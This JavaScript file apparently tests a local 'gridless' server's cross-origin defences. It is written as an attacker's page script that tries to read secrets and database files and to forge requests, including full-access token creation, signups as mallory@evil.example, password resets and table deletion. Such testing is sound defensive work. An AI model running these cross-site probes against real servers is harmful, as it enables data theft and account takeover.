/*
 * The script of an attacker's page: what it tries against the server on its visitor's machine. It runs in the browser and gives what each
 * try learned, by its name; `nothing` where that is nothing. `target`: the server's url, ids in it, an account of the attacker, and `only`:
 * the paths to try, if not all.
 */
globalThis.attack = async ({ url, baseId, tableId, account, only }) => {
  const outcomes = {};
  const note = async (name, trying) => {
    const patience = new Promise((resolve) => setTimeout(resolve, 120_000, ""));
    const tried = (async () => trying())().catch(() => "");
    outcomes[name] = (await Promise.race([tried, patience])) || "nothing";
  };
  const send = async (path, options) => {
    const response = await fetch(url + path, options);
    const text = await response.text();
    return response.type === "opaque" ? text : `${response.status} ${text}`;
  };
  const inEachWay = async (name, tryOne) => {
    for (const mode of ["cors", "no-cors"])
      for (const credentials of ["include", "omit"])
        await note([name, mode, credentials].join(", "), () => tryOne({ mode, credentials }));
  };

  const addresses = [
    ...["/", "/docs", "/openapi.json", "/auth/user", "/auth/user/me", "/account", "/access-token"],
    ...["/dev.json", "/.gridless/dev.json", "/store.sqlite", "/base/access/all"],
    ...[`/base/${baseId}`, `/base/${baseId}/table`, `/table/${tableId}/record`, `/table/${tableId}/export`],
  ];
  // what our own pages send with their session
  const window = { "x-window-id": "w" };
  const guessed = { authorization: "Bearer gridless_accGuessedGuessed00_guessed" };
  const isMeant = (path) => !only || only.includes(path);
  for (const path of addresses.filter(isMeant)) {
    await inEachWay(`GET ${path}`, (how) => send(path, how));
    await inEachWay(`GET ${path}, with a window`, (how) => send(path, { ...how, headers: window }));
    await note(`GET ${path}, guessed token`, () => send(path, { headers: guessed }));
    await note(`image ${path}`, () => load("img", "src", url + path));
    await note(`script ${path}`, () => load("script", "src", url + path));
    await note(`style ${path}`, () => load("link", "href", url + path));
    await note(`frame ${path}`, () => load("iframe", "src", url + path));
    await note(`module ${path}`, async () => Object.keys(await import(url + path)).join());
  }

  const mallory = (name) => ({ ...account, email: `mallory-${name}@evil.example` });
  const writes = {
    "/auth/signup": mallory("api"),
    "/auth/sign-up": { ...mallory("page"), name: "Mallory" },
    "/auth/signin": account,
    "/auth/sign-in": account,
    "/auth/signout": {},
    "/account/sign-out": {},
    "/account/name": { name: "Mallory" },
    "/account/token": { name: "Mallory", may: "everything", reach: "all", days: "365" },
    "/access-token": { name: "Mallory", scopes: ["base|read"], hasFullAccess: true },
    "/auth/send-reset-password-email": { email: account.email },
    "/oauth/access_token": { grant_type: "client_credentials" },
    [`/base/${baseId}/table/`]: { name: "Mallory" },
    [`/table/${tableId}/record`]: { records: [{ fields: { Name: "Mallory" } }] },
  };
  for (const [path, value] of Object.entries(writes).filter(([path]) => isMeant(path))) {
    const bodies = {
      "application/json": JSON.stringify(value),
      "text/plain": JSON.stringify(value),
      "application/x-www-form-urlencoded": new URLSearchParams(value).toString(),
    };
    for (const [type, body] of Object.entries(bodies))
      await inEachWay(`POST ${path}, ${type}`, (how) =>
        send(path, { ...how, method: "POST", body, headers: { "content-type": type, ...window } }),
      );
    await note(`beacon ${path}`, async () => void navigator.sendBeacon(url + path, JSON.stringify(value)));
    for (const type of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"])
      await note(`form ${path}, ${type}`, () => sendForm(url + path, type, value));
  }
  for (const method of ["PUT", "PATCH", "DELETE"])
    await inEachWay(`${method} a table`, (how) =>
      send(`/base/${baseId}/table/${tableId}`, { ...how, method }),
    );

  await note("worker", () => hear(new Worker(`${url}/openapi.json`)));
  await note("socket", () => hear(new WebSocket(`${url.replace("http", "ws")}/table/${tableId}/record`)));
  await note("events", () =>
    hear(new EventSource(`${url}/table/${tableId}/record`, { withCredentials: true })),
  );
  return outcomes;
};

/** The first message, or that it was opened. */
const hear = (source) =>
  new Promise((resolve) => {
    source.onopen = () => resolve("open");
    source.onmessage = ({ data }) => resolve(String(data));
    source.onerror = () => resolve("");
  });

/** What the page sees of something that it loads: new globals, the size of an image, the rules of a style, the text of a frame. */
function load(tag, attribute, address) {
  const element = document.createElement(tag);
  if (tag === "link") element.rel = "stylesheet";
  const before = new Set(Object.keys(globalThis));
  return new Promise((resolve) => {
    element.onerror = () => resolve("");
    element.onload = () => {
      const names = Object.keys(globalThis).filter((name) => !before.has(name) && !/^\d+$/.test(name));
      resolve([...names, element.naturalWidth, element.sheet?.cssRules.length, textIn(element)].join(""));
    };
    element.setAttribute(attribute, address);
    document.body.append(element);
  })
    .then((seen) => (seen === "0" ? "" : seen))
    .finally(() => element.remove());
}

const textIn = (frame) => frame.contentDocument?.documentElement.textContent ?? "";

/** Sends a form into a frame, as a click would. With text/plain its one input makes the body JSON. */
function sendForm(action, enctype, value) {
  const frame = Object.assign(document.createElement("iframe"), { name: `frame${Math.random()}` });
  const form = document.createElement("form");
  Object.assign(form, { action, enctype, method: "post", target: frame.name });
  const opened = JSON.stringify({ ...value, x: "" }).slice(0, -2);
  const pairs = enctype === "text/plain" ? [[opened, '"}']] : Object.entries(value);
  for (const [name, content] of pairs)
    form.append(Object.assign(document.createElement("input"), { name, value: String(content) }));
  document.body.append(frame, form);
  return new Promise((resolve) => {
    frame.onload = () => resolve(textIn(frame));
    form.submit();
  }).finally(() => {
    frame.remove();
    form.remove();
  });
}
